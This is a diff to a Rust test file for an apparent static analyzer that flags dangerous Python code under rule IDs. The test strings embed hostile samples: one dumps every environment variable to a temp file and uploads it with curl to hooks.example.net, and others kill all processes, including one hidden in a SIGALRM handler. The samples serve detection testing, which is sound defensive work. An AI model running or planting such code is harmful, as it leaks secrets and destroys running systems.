@@ -1207,9 +1207,11 @@ fn user_folders_removed_whole_and_found_through_yield_from() {
 }
 
 #[test]
-fn the_environment_saved_to_a_file_and_uploaded() {
+fn the_environment_saved_to_a_file() {
+    // Its secrets taken out of where they are kept (HIGH); that `curl` sends that file is
+    // not followed.
     fires(
-        "CRD109",
+        "CRD205",
         "import json, os, subprocess, tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.json', delete=False) as fh:\n    json.dump({'env': {k: v for k, v in os.environ.items()}}, fh)\nsubprocess.run(['curl', '-sS', '--data-binary', f'@{fh.name}', 'https://hooks.example.net/ci'])\n",
     );
 }
@@ -1238,5 +1240,10 @@ fn a_helper_that_signals_found_processes_kills_others() {
     fires(
         "CRD107",
         "import os\nfor pid in range(2, 40000):\n    os.kill(pid, 9)\n",
+    );
+    // A handler the analysis never follows a call into is judged by what it signals.
+    fires(
+        "CRD107",
+        "import os, signal\ndef handler(signum, frame):\n    for d in os.listdir('/proc'):\n        if d.isdigit():\n            os.kill(int(d), signal.SIGKILL)\nsignal.signal(signal.SIGALRM, handler)\nsignal.alarm(1)\n",
     );
 }
